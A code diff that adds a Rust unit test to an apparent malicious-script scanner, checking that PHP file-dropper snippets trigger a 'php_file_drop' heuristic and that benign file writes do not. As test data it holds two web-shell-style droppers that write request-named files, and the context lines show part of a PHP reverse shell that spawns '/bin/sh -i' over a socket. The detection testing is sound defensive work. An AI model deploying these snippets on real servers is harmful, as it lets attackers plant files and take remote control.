@@ -1140,6 +1140,26 @@ mod tests {
     }
 
     #[test]
+    fn php_request_file_writes() {
+        let dropper = "<?php\nif ($_POST)\n{\n$f=fopen($_POST[\"f\"],\"w\");\nif(fwrite($f,$_POST[\"c\"]))\necho 'OK';\n}";
+        assert!(ids(ScriptKind::Php, dropper).contains(&"scan.heuristic.php_file_drop"));
+        let put = "<?php file_put_contents($_GET['n'], $_POST['body']);";
+        assert!(ids(ScriptKind::Php, put).contains(&"scan.heuristic.php_file_drop"));
+        // A cache written from request data under a fixed name; a log named by the request
+        // but holding fixed text; a read of a request-named file.
+        for quiet in [
+            "<?php file_put_contents('/tmp/cache.txt', $_POST['body']);",
+            "<?php $h = fopen('log/' . $_GET['day'] . '.log', 'a'); fwrite($h, \"visit\\n\");",
+            "<?php $h = fopen($_GET['f'], 'r'); echo fread($h, 100);",
+        ] {
+            assert!(
+                !ids(ScriptKind::Php, quiet).contains(&"scan.heuristic.php_file_drop"),
+                "{quiet}"
+            );
+        }
+    }
+
+    #[test]
     fn php_reverse_shell_and_mailers() {
         let shell = r#"<?php $sock = fsockopen($ip, $port); $shell = 'uname -a; /bin/sh -i';
 $process = proc_open($shell, array(0 => array("pipe", "r"), 1 => array("pipe", "w")), $pipes);"#;
